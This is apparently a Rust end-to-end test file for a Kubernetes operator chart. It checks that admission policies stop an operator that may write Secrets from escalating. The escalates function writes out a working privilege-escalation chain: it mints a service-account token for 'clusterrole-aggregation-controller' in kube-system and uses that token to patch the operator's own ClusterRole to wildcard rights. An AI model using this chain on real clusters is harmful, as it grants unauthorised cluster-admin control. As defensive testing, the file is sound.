//! What an operator that may write Secrets could make of that: everything, but for the admission policies, with Helm and without.

use devcluster::{Binary, Cluster, OPERATOR, OperatorAccount, Options};
use http::Method;
use k8s_openapi::api::core::v1::Secret;
use kube::config::AuthInfo;
use kube::{Api, Client};
use serde_json::{Value, json};

use super::end_to_end::kubectl::Kubectl;
use super::end_to_end::operator::RBAC;
use super::end_to_end::wait::{SOON, until};
use super::generated::chart;
use super::helm::Helm;
use super::release::{HOME, install};
use super::requests::{answer, secret};

const POLICIES: &str = "charts/external-cloud-secrets/policies.yaml";
/// An account of every cluster that may write roles with more rights than it has.
const VICTIM: &str = "clusterrole-aggregation-controller";
const NODES: &str = "/api/v1/nodes";

/// Asks for a Secret that Kubernetes fills with a token of that account.
async fn ask(operator: &Client, name: &str) -> (u16, String) {
    let mut bait = secret(name, "kubernetes.io/service-account-token", false);
    bait["metadata"]["annotations"] = json!({ "kubernetes.io/service-account.name": VICTIM });
    let path = "/api/v1/namespaces/kube-system/secrets";
    answer(operator, Method::POST, path, &bait).await
}

/// The policies take effect a moment after they are made, and end so.
async fn is_refused(operator: &Client) {
    until("the refusal", SOON, async || {
        let (code, said) = ask(operator, "refused").await;
        let refused = code == 422 && said.contains("no credentials of the cluster");
        refused.then_some(()).ok_or((code, said))
    })
    .await;
}

/// By a token of that account the operator writes its own role: in the end it may do everything.
async fn escalates(account: &OperatorAccount, role: &str) {
    let operator = account.client().unwrap();
    let may_read_nodes = async || answer(&operator, Method::GET, NODES, &Value::Null).await;
    assert_eq!(may_read_nodes().await.0, 403);
    until("the end of the policies", SOON, async || {
        match ask(&operator, "bait").await {
            (200, _) => Ok(()),
            other => Err(other),
        }
    })
    .await;
    let secrets: Api<Secret> = Api::namespaced(operator.clone(), "kube-system");
    let token = until("the token", SOON, async || {
        let data = secrets.get("bait").await.unwrap().data.unwrap_or_default();
        data.get("token").cloned().ok_or("it has none yet")
    })
    .await;
    let mut config = account.config().clone();
    config.auth_info = AuthInfo {
        token: Some(String::from_utf8(token.0).unwrap().into()),
        ..AuthInfo::default()
    };
    let victim = Client::try_from(config).unwrap();
    let path = format!("/apis/rbac.authorization.k8s.io/v1/clusterroles/{role}");
    let all = json!({ "rules": [{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }] });
    let (code, said) = answer(&victim, Method::PATCH, &path, &all).await;
    assert_eq!(code, 200, "{said}");
    until("all rights", SOON, async || match may_read_nodes().await {
        (200, _) => Ok(()),
        other => Err(other),
    })
    .await;
}

#[tokio::test]
async fn only_the_policies_of_the_chart_keep_the_operator_from_being_cluster_admin() {
    let cluster = Cluster::start(Options::new(true)).await.unwrap();
    let helm = Helm::of(Binary::Helm4, &cluster).await;
    let said = install(&helm, OPERATOR, &chart(), &Value::Null, &[]);
    assert!(said.success, "{}", said.err);
    assert!(!said.out.contains("cluster-admin"), "{}", said.out);
    let account = cluster.installed_operator(HOME, OPERATOR).await.unwrap();
    is_refused(&account.client().unwrap()).await;

    let file = helm.values(&json!({ "admissionPolicies": { "enabled": false } }));
    let chart = chart();
    let args = ["upgrade", OPERATOR, chart.to_str().unwrap()];
    let said = helm.done(&[&args[..], &["--namespace", HOME, "--values", &file]].concat());
    assert!(
        said.contains(
            "admissionPolicies.enabled is off: whoever takes the operator over is cluster-admin"
        ),
        "{said}"
    );
    escalates(&account, OPERATOR).await;
}

#[tokio::test]
async fn only_the_manifest_of_policies_keeps_it_from_that_where_there_is_no_helm() {
    let cluster = Cluster::start(Options::new(true)).await.unwrap();
    let kubectl = Kubectl::of(&cluster).await;
    let account = cluster.install_operator(RBAC, OPERATOR).await.unwrap();
    kubectl.print(&["apply", "-f", POLICIES]).await;
    is_refused(&account.client().unwrap()).await;

    kubectl.print(&["delete", "-f", POLICIES]).await;
    let role = format!("{OPERATOR}-{OPERATOR}");
    escalates(&account, &role).await;
}
